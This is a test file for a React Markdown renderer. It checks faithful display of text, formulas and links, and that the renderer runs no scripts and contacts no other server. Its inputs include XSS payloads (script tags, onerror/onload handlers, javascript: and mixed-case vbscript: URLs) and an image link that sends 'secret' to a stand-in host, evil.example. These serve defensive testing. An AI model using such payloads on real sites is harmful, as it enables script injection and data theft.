import { MantineProvider } from "@mantine/core";
import { render } from "@testing-library/react";
import { describe, expect, it, vi } from "vitest";
import { MarkdownBody as Markdown } from "../MarkdownBody";
import { theme } from "../theme";
import type { Code, Context } from "./construct";
import { formula } from "./formula";

function shown(text: string, breaks = false): HTMLElement {
  const { container } = render(
    <MantineProvider theme={theme}>
      <Markdown text={text} breaks={breaks} />
    </MantineProvider>,
  );
  return container.querySelector("div") as HTMLElement;
}

/** What one reads, lines and gaps apart. */
const read = (text: string) => (shown(text).textContent ?? "").replace(/\s+/g, " ").trim();

const backslash = String.fromCharCode(92);

describe("all that was written is read", () => {
  it.each([
    "use <channel> or <#general>",
    "Map<String, List<Int>> and vector<std::string>",
    "<answer>42</answer>",
    "<think>Hm.</think> Yes.",
    "a <!-- remark --> b",
    "<script>alert(1)</script>",
    "<?php echo 1 ?> <![CDATA[x]]> <!DOCTYPE html>",
    "if a<b and c>d then <br> </p>",
    "<a href='https://a.example' onclick=alert(1)>x</a>",
    "3~5 days, 100~200",
    "2*3*4 and a*b*c",
    "call handlers[0](event) and list[](x)",
    "[x](javascript:alert(1)) [y](data:text/html,1) [z](./manual.md)",
    "[](https://a.example/empty)",
    "[note]: remember",
    "[1]: https://a.example/never-named",
    "![x][y]",
    "<iframe src=https://a.example></iframe>",
  ])("%s", (text) => {
    expect(read(text)).toBe(text);
  });

  it.each([
    ["in brackets", String.raw`So \(\frac{1}{2} \{a_1\} \, x\) and \[ x \\ y \].`],
    ["in dollars", String.raw`Let $a_1*b*c \{x\} \\ \$$ be $$\sum_{i=0}^{n} i_*$$.`],
    ["bare", String.raw`\frac{a}{b} \left\{ x \right\} \\ \, \; \! \quad \(`],
    ["a path", String.raw`${backslash}${backslash}server\share C:\!new\(old)`],
    ["prices", "It costs $5 and *not* $10, US$7."],
  ])("formulas %s", (_, text) => {
    expect(read(text)).toBe(text.replace("*not*", "not"));
  });

  it("formulas of several lines, with nothing in them taken for a list or a heading", () => {
    const formulas = [
      ["\\[", "\\begin{aligned}", "a &= b \\\\", "+ c", "\\end{aligned}", "\\]"],
      ["$$", "x", "= y", "- z", "$$"],
      ["\\begin{cases}", "1 \\\\", "- 2", "", "3", "\\end{cases}"],
    ];
    for (const lines of formulas) {
      const formula = lines.join("\n");
      const container = shown(
        `We have:\n${formula}\nand **more**.\n\n> ${lines.join("\n> ")}\n> end`,
      );
      const codes = [...container.querySelectorAll("pre")].map((code) => code.textContent?.trim());
      expect(codes).toEqual([formula, formula]);
      expect(container.querySelector("li, h1, h2")).toBeNull();
      expect(container.querySelector("strong")?.textContent).toBe("more");
    }
  });

  it("cells that a table has no head for", () => {
    expect(read("| a | b |\n|---|---|\n| x || y | z |")).toBe("a b x y z".replaceAll(" ", ""));
  });

  it("what stands behind the mark of a code block and is no language", () => {
    const container = shown("```print(1) # <b>\nx\n```\n\n```python title=a\ny\n```");
    const [odd, usual] = [...container.querySelectorAll("pre")].map((code) => code.textContent);
    expect(odd).toBe("print(1) # <b>\nx\n");
    expect(usual).toBe("y\n");
  });

  it("notes that nothing refers to, and signs alone", () => {
    expect(read("[^1]: A note\n\ntext")).toBe("[^1]: A note text");
    for (const sign of ["#", ">", "-", "***", "&nbsp;"]) expect(read(sign)).toBe(sign);
  });

  it("also while it is being written", () => {
    for (const text of ["<answ", "\\(a", "$x", "[a](b", "<!-- x", "\\"]) {
      expect(read(text)).toBe(text);
    }
    for (const text of ["\\[", "$$", "\\begin{a}\nb"]) {
      expect(shown(text).querySelector("pre")?.textContent?.trim()).toBe(text);
    }
  });
});

describe("what is meant as Markdown", () => {
  it("is drawn as such, also inside of what stands in angle brackets", () => {
    const container = shown(
      "<answer>\n**42** and `<b>`\n</answer>\n\n~~gone~~ snake\\_case \\*a\\*",
    );
    expect(container.querySelector("strong")?.textContent).toBe("42");
    expect(container.querySelector("code")?.textContent).toBe("<b>");
    expect(container.querySelector("del")?.textContent).toBe("gone");
    expect(container.textContent).toContain("snake_case *a*");
    expect(container.textContent).toContain("</answer>");
  });

  it("keeps links by reference, and emphasis where words touch in other scripts", () => {
    const container = shown("[one][a] 这是**重要**的*事*。\n\n[a]: https://a.example 'A'");
    expect(container.querySelector("a")?.getAttribute("href")).toBe("https://a.example");
    expect(container.querySelector("strong")?.textContent).toBe("重要");
    expect(container.querySelector("em")?.textContent).toBe("事");
    expect(container.textContent).not.toContain("[a]");
  });

  it("makes links of addresses that stand alone, not of those in tags or quotations", () => {
    const container = shown(
      "https://a.example, (https://b.example) 见https://c.example <https://d.example> me@e.example" +
        " <a href=https://no.example> 'https://no.example' x=https://no.example",
    );
    const links = [...container.querySelectorAll("a")].map((link) => link.getAttribute("href"));
    expect(links).toEqual([
      ..."abcd".split("").map((name) => `https://${name}.example`),
      "mailto:me@e.example",
    ]);
  });

  it("keeps code of the shell as code", () => {
    const container = shown("Set $PATH and `$HOME` or `a_$X`; \\` is a tick");
    const codes = [...container.querySelectorAll("code")].map((code) => code.textContent);
    expect(codes).toEqual(["$HOME", "a_$X"]);
    expect(container.textContent).toContain("; ` is");
  });

  it("ends lines where people do, and leaves their code alone", () => {
    const container = shown("one\ntwo **three\nfour**\n\n```\na\nb\n```", true);
    expect(container.querySelectorAll("br")).toHaveLength(2);
    expect(container.querySelector("pre")?.textContent).toBe("a\nb\n");
  });
});

it("runs nothing and asks no other server, whatever is written", () => {
  const container = shown(
    [
      "<img src=x onerror=alert(1)><svg onload=alert(1)><iframe src=//evil.example>",
      "![a](https://evil.example/?d=secret) [b](vbscript:x) <javascript:alert(1)>",
      "\\[<img src=x>\\] $<b>$ | <style>*{}</style>",
      "[c]: javascript:alert(1)\n\n[c] [d](JaVaScRiPt:alert(1))",
    ].join("\n\n"),
  );
  const live = "img, svg:not(.tabler-icon), iframe, script, style:not([data-mantine-styles]), a, b";
  expect(container.querySelector(live)).toBeNull();
  expect(container.textContent).toContain("[image left out: a]");
});

it("looks at no text again and again for the end of a formula", () => {
  const { tokenize } = formula;
  let looked = 0;
  vi.spyOn(formula, "tokenize").mockImplementation(function (this: Context, effects, ...ends) {
    const consume = (code: Code) => {
      looked += 1;
      effects.consume(code);
    };
    return tokenize.call(this, { ...effects, consume }, ...ends);
  });
  for (const piece of ["$a ", "\\( ", "\\[", "$$a ", "$a` ", "$a \\( \\[ ", "$x$ "]) {
    looked = 0;
    const text = piece.repeat(500);
    shown(text);
    expect(looked).toBeGreaterThan(0);
    expect(looked).toBeLessThan(5 * text.length);
  }
});
